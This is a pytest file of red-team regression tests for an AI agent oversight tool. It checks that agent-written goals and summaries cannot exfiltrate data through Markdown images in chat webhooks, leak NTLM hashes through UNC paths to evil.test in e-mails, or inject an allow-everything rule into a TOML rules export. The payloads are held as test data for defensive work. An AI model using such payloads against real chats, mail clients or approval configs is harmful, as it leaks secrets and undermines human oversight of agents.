"""Red-team variants found in a second hunt (issue 19): chat text a Markdown chat reads, and
Markdown-rendering widget options the scan did not look at.

- A "Slack-compatible" webhook's `text` is read as Markdown by the chats that take it
  (Mattermost, Rocket.Chat): `inert.chat` escaped only Slack's `&<>` and defanged `scheme://`,
  so `![x](//host/leak?d=secret)` (no scheme), `\\\\host` or `/\\host` (which a browser reads
  as `//host`) became an image the chat fetches, or a link.
- `st.radio`, `st.segmented_control` and `st.pills` draw their options as Markdown; the scan
  read only the label, so `format_func=lambda r: r.goal` or `options=[run.goal]` passed it.
"""

from __future__ import annotations

import re
import textwrap

import pytest
from markdown_it import MarkdownIt

from agent_core.oversight import inert
from agent_core.oversight.notify.formats import slack_payload, webhook_payload
from agent_core.oversight.notify.notice import Notice
from tests.oversight.test_inert_scan import findings

WITNESS = "127.0.0.1:9"
CHAT = {
    "image, no scheme": f"![x](//{WITNESS}/leak?d=secret)",
    "link, no scheme": f"[open](//{WITNESS}/link)",
    "image, backslashes": f"![x](\\\\\\\\{WITNESS}/bs)",
    "image, slash backslash": f"![x](/\\\\{WITNESS}/sb)",
    "image, defanged scheme": f"![x](http://{WITNESS}/img)",
    "image, angle url": f"![x](<//{WITNESS}/angle>)",
    "link, javascript": "[click](javascript:alert(1))",
    "image, data uri": "![x](data:image/png;base64,AAAA)",
    "linked image": f"[![x](//{WITNESS}/i)](//{WITNESS}/l)",
    "image, title": f'![x](//{WITNESS}/t "title")',
    "image, spaces inside": f"![x]( //{WITNESS}/sp )",
}
_MD = MarkdownIt("commonmark")


def _notice(text: str) -> Notice:
    return Notice(
        event="approval_requested",
        run_id="r1",
        goal=f"goal {text}",
        headline="onloop run r1 waits for an approver's decision",
        action=f"write {text}",
        reason=f"why {text}",
        risk="high",
        role="approver",
        approval_id=7,
        link="https://onloop.example/?item=approval-7",
    )


@pytest.mark.parametrize("payload", CHAT.values(), ids=CHAT.keys())
def test_chat_text_is_no_markdown_image_or_link(payload):
    notice = _notice(payload)
    for text in (
        webhook_payload(notice)["text"],
        slack_payload(notice)["text"],
        inert.chat(payload),
    ):
        html = _MD.render(text)
        assert "<img" not in html and "<a " not in html, html


def test_chat_text_still_reads_as_the_words():
    assert inert.chat("see [the docs](docs/x.md) and ![logo](logo.png)") == (
        "see [the docs] (docs/x.md) and ![logo] (logo.png)"
    )
    assert inert.chat("a < b && c > d") == "a &lt; b &amp;&amp; c &gt; d"
    assert inert.chat("f(x) [1]") == "f(x) [1]"


def test_the_scan_reads_the_options_markdown_widgets_draw():
    bad = textwrap.dedent(
        """
        st.radio("Pick a run", runs, format_func=lambda r: r.goal)
        st.segmented_control("Step", options=[e.summary for e in events])
        st.pills("Tool", tools, format_func=lambda t: f"{t.description} tool")
        st.radio("Pick", ids, format_func=goals.get)
        st.radio("Pick", options=[a.summary for a in pending])
        """
    )
    found = findings(bad, "x.py", dashboard=True)
    assert [line.split(":")[1] for line in found] == ["2", "3", "4", "5", "6"]


def test_the_scan_passes_options_that_are_ours_or_inert():
    good = textwrap.dedent(
        """
        st.radio("Pick a run", runs, format_func=lambda r: inert.markdown(r.goal))
        st.segmented_control("View", list(VIEWS), format_func=VIEWS.__getitem__)
        st.radio("Autonomy", [level.value for level in Autonomy])
        st.radio("Mode", ["a", "b"], format_func=WORKSPACE_MODES.__getitem__)
        st.selectbox("Run", runs, format_func=lambda r: inert.visible(r.goal))
        """
    )
    assert findings(good, "x.py", dashboard=True) == []


UNC = {
    "unc path": "\\\\evil.test\\share\\x.png",
    "unc ip": "see \\\\10.0.0.1\\c$ now",
    "unc after punctuation": "(\\\\evil.test\\s)",
    "unc webdav port": "\\\\evil.test@8080\\dav\\x",
}


@pytest.mark.parametrize("payload", UNC.values(), ids=UNC.keys())
def test_a_plain_message_carries_no_unc_path_a_mail_client_links(payload):
    """Outlook links `\\\\host\\share` in a plain-text e-mail; a click opens SMB to the host
    (and hands it the reader's NTLM hash). Shown as `[\\]\\host\\share`, linked by nothing."""
    from agent_core.oversight.notify.formats import email_message, ntfy_headers, plain_body

    notice = _notice(payload)
    message = email_message(notice, sender="onloop@example.test", to=["ops@example.test"])
    for text in (plain_body(notice), message["Subject"], ntfy_headers(notice)["Title"]):
        assert not re.search(r"\\\\[\w.\-]", text), text
    assert "[\\]\\" in inert.plain(payload)


def test_windows_paths_and_single_backslashes_read_as_they_are():
    assert inert.plain("C:\\Users\\me\\notes.txt") == "C:\\Users\\me\\notes.txt"
    assert inert.plain("a \\ b") == "a \\ b"


# The project rules' export is TOML an admin pastes into onloop.toml; its values come from a
# model's arguments (a folder, a command) and its comments from a person's name.
EXPORTED = {
    "emoji folder": "docs/📁 notes/**",
    "delete char": "docs/a\x7fb/**",
    "bidi override": "docs/\u202egpj.exe",
    "tag character": "docs/\U000e0041x",
    "line separator": "docs/a\u2028b",
}


@pytest.fixture
def rules_store(tmp_path):
    import storage

    opened = storage.open_store(f"sqlite:///{tmp_path / 'onloop.db'}")
    yield opened
    opened.dispose()


def test_the_rules_export_parses_back_to_the_same_rules_whatever_a_model_wrote(rules_store):
    """JSON's `\\ud83d\\udcc1` (its escape for a character beyond U+FFFF) is no TOML: the
    whole file failed to parse; DEL went out raw, which TOML refuses; bidi controls went out
    raw, reordering what the admin reads before pasting."""
    import tomllib

    import storage
    from agent_core.oversight.project_rules import add_rule, export_toml

    for name, path in EXPORTED.items():
        add_rule(rules_store, {"tool": "read_file", "paths": [path], "action": "ask"}, by=name)
    text = export_toml(storage.active_project_rules(rules_store))
    parsed = tomllib.loads(text)["rules"]
    assert sorted(r["paths"][0] for r in parsed) == sorted(EXPORTED.values())
    assert not [c for c in text if c in "\x7f\u202e\U000e0041\u2028"]


def test_a_name_in_the_rules_export_cannot_add_a_rule(rules_store):
    """Each rule's comment names who added it: a newline in that name (a sign-in claim, a
    `--by`) started a line of TOML of its own, an allow-everything rule once pasted."""
    import tomllib

    import storage
    from agent_core.oversight.project_rules import add_rule, export_toml

    evil = 'ann\n[[rules]]\ntool = "*"\naction = "allow"\n#'
    add_rule(rules_store, {"tool": "read_file", "paths": ["docs/**"], "action": "ask"}, by=evil)
    parsed = tomllib.loads(export_toml(storage.active_project_rules(rules_store)))["rules"]
    assert parsed == [{"tool": "read_file", "paths": ["docs/**"], "action": "ask"}]


def test_the_scan_reads_a_draw_chosen_by_a_condition():
    """`(st.warning if problems else st.success)(text)` drew `text` unseen: the scan looked
    only at calls of `st.<draw>` itself."""
    bad = "(st.warning if problems else st.success)(approval.summary)\n"
    assert findings(bad, "x.py", dashboard=True)
    good = "(st.warning if problems else st.success)(f'Approved {done} of {total}.')\n"
    assert findings(good, "x.py", dashboard=True) == []
